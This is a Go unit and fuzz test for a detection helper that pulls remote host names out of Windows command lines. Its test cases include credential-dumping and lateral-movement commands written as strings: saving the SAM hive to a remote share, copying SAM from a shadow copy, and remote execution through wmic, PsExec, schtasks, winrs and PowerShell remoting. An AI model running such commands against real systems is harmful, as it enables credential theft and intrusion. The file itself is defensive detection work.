package footprint

import (
	"strings"
	"testing"
)

func TestRemotes(t *testing.T) {
	for _, c := range []struct{ image, line, want string }{
		{`C:\Windows\System32\reg.exe`, `reg save \\DC01\HKLM\SAM \\fs1.corp.example\drop\s`, "dc01 fs1.corp.example"},
		{`C:\Windows\System32\wbem\WMIC.exe`, `wmic /node:"SRV-1","srv2" process call create "cmd /c whoami"`, "srv-1 srv2"},
		{`C:\Windows\System32\wbem\WMIC.exe`, `wmic /node:10.1.2.3 /user:x process list`, "10.1.2.3"},
		{`C:\Tools\PsExec.exe`, `PsExec.exe \\SRV1,SRV2 -s cmd`, "srv1 srv2"},
		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c "psexec64 \\srv1 cmd"`, "srv1"},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -c "Invoke-Command -ComputerName SRV1, -Credential $c {reg save HKLM\SAM C:\s}; Enter-PSSession -cn srv3"`, "srv1 srv3"},
		{`C:\Windows\System32\schtasks.exe`, `schtasks /create /s SRV9 /tn x /tr calc`, "srv9"},
		{`C:\Windows\System32\winrs.exe`, `winrs -r:http://srv1.corp:5985 cmd`, "srv1.corp"},
		{`C:\Windows\System32\mstsc.exe`, `mstsc /v:10.0.0.5:3390 /f`, "10.0.0.5"},
		{`C:\Windows\System32\net.exe`, `net use Z: \\fs@SSL\DavWWWRoot\x`, "fs"},
		{`C:\Windows\System32\net.exe`, `net view \\fs1`, "fs1"},
		{`C:\Windows\explorer.exe`, `explorer.exe /select,\\fs1\c$\x`, "fs1"},
		{`C:\x.exe`, `x.exe -computername:srv1`, "srv1"},
		// What names no other host.
		{`C:\Windows\System32\cmd.exe`, `cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\s`, ""},
		{`C:\Windows\System32\cmd.exe`, `cmd /Q /c dir 1> \\127.0.0.1\ADMIN$\__17 2>&1`, ""},
		{`C:\Windows\System32\cmd.exe`, `type \\.\pipe\x \\localhost\c$\y \\::1\c$`, ""},
		{`C:\x.exe`, `x "C:\\Program Files\\a" \\`, ""},
		{`C:\Windows\System32\findstr.exe`, `findstr \\w+\\d+ a.txt`, ""},
		{`C:\Windows\System32\findstr.exe`, `findstr /s \\server a.txt`, ""},
		{`C:\x.exe`, `x \\%COMPUTERNAME%\c$ \\$h\c$`, ""},
		{`C:\x.exe`, `x -cn foo /s bar`, ""},
		{`C:\x.exe`, `x -computername`, ""},
		{`C:\x.exe`, ``, ""},
		{`C:\x.exe`, "\x81@\\\\", ""}, // lower case can be longer
		{`C:\x.exe`, "\x81@\\\\srv1\\c", "srv1"},
	} {
		if got := strings.Join(Remotes(c.image, c.line), " "); got != c.want {
			t.Errorf("%s: %q, want %q", c.line, got, c.want)
		}
	}
	if got := Remotes("x.exe", strings.Repeat(`\\h`+strings.Repeat("x", 9)+`\c `, 2)+manyHosts()); len(got) != maxRemotes {
		t.Errorf("%d hosts of a line", len(got))
	}
}

func manyHosts() (line string) {
	for i := range 100 {
		line += ` \\srv` + strings.Repeat("a", i+1) + `\c`
	}
	return line
}

func FuzzRemotes(f *testing.F) {
	for _, line := range []string{`reg save \\DC01\HKLM\SAM`, `wmic /node:"a","b"`, `winrs -r:http://srv1.corp:5985 cmd`, `x \\::1\c$,\\[::]\d`, "schtasks /s h", `psexec \\a,b,@`} {
		f.Add(`C:\Tools\psexec.exe`, line)
	}
	f.Fuzz(func(t *testing.T, image, line string) {
		hosts := Remotes(image, line)
		if len(hosts) > maxRemotes {
			t.Errorf("%d hosts", len(hosts))
		}
		for _, h := range hosts {
			if h != strings.ToLower(h) || len(h) < 2 || len(h) > longestDNS || strings.ContainsAny(h, " \\/\"'%$\x00") {
				t.Errorf("a host %q from %q", h, line)
			}
		}
	})
}
